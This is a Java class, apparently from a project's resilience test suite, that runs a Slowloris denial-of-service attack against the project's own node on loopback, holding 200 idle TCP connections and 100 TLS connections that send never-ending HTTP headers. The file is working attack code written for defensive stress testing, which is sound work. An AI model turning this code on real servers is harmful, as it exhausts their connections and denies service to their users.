package dev.swarm.node.bench;

import java.io.IOException;
import java.io.OutputStream;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.net.Socket;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import java.util.function.BooleanSupplier;
import javax.net.ssl.SSLContext;
import javax.net.ssl.SSLSocket;

/**
 * Slowloris before and inside TLS: {@value #PLAIN} connections that never start the handshake and
 * {@value #TLS} that finish it and then send an HTTP/1.1 request whose headers never end, a line a
 * second. Connections the node closes are counted and opened again, so the attacker always holds
 * its full number.
 */
final class SlowlorisAttack implements Attack {
    private static final int PLAIN = 200;
    private static final int TLS = 100;

    private final AttackTarget target;
    private final AttackCounters counters;
    private final SSLContext tls;
    private final List<Socket> plain = new ArrayList<>();
    private final List<SSLSocket> slow = new ArrayList<>();

    SlowlorisAttack(AttackTarget target, AttackCounters counters) {
        this.target = target;
        this.counters = counters;
        this.tls = H2Attacker.tlsTrusting(target.caFile());
    }

    @Override
    public int workers() {
        return 1;
    }

    @Override
    public void run(int worker, BooleanSupplier stopped) throws Exception {
        int next = 0;
        while (!stopped.getAsBoolean()) {
            synchronized (this) {
                int before = plain.size();
                plain.removeIf(SlowlorisAttack::closedByNode);
                counters.add("closed_by_node", before - plain.size());
                while (plain.size() < PLAIN && !stopped.getAsBoolean()) {
                    plain.add(connect(target.address(next++)));
                    counters.add("connections");
                }
                while (slow.size() < TLS && !stopped.getAsBoolean()) {
                    slow.add(startRequest(target.address(next++)));
                    counters.add("connections");
                }
                for (SSLSocket socket : List.copyOf(slow)) {
                    try {
                        OutputStream out = socket.getOutputStream();
                        out.write("X-a: b\r\n".getBytes(StandardCharsets.US_ASCII));
                        out.flush();
                    } catch (IOException closedByTheNode) {
                        counters.add("closed_by_node");
                        socket.close();
                        slow.remove(socket);
                    }
                }
            }
            Thread.sleep(1_000);
        }
    }

    private Socket connect(String address) throws IOException {
        Socket socket = new Socket();
        socket.bind(new InetSocketAddress(InetAddress.getByName(address), 0));
        socket.connect(new InetSocketAddress(InetAddress.getLoopbackAddress(), target.port()), 5_000);
        return socket;
    }

    private SSLSocket startRequest(String address) throws IOException {
        Socket socket = connect(address);
        SSLSocket secure = (SSLSocket) tls.getSocketFactory().createSocket(socket, "127.0.0.1", target.port(), true);
        secure.setSoTimeout(5_000);
        secure.startHandshake();
        OutputStream out = secure.getOutputStream();
        out.write("POST /swarm/message HTTP/1.1\r\nHost: 127.0.0.1\r\n".getBytes(StandardCharsets.US_ASCII));
        out.flush();
        return secure;
    }

    @Override
    public synchronized void close() {
        for (Socket socket : plain) {
            closeQuietly(socket);
        }
        for (Socket socket : slow) {
            closeQuietly(socket);
        }
        plain.clear();
        slow.clear();
    }

    /** Whether the node has closed a connection that never sent anything (a read sees its end). */
    private static boolean closedByNode(Socket socket) {
        try {
            socket.setSoTimeout(1);
            if (socket.getInputStream().read() < 0) {
                socket.close();
                return true;
            }
            return false;
        } catch (java.net.SocketTimeoutException stillOpen) {
            return false;
        } catch (IOException e) {
            closeQuietly(socket);
            return true;
        }
    }

    private static void closeQuietly(Socket socket) {
        try {
            socket.close();
        } catch (IOException e) {
            // already gone
        }
    }
}
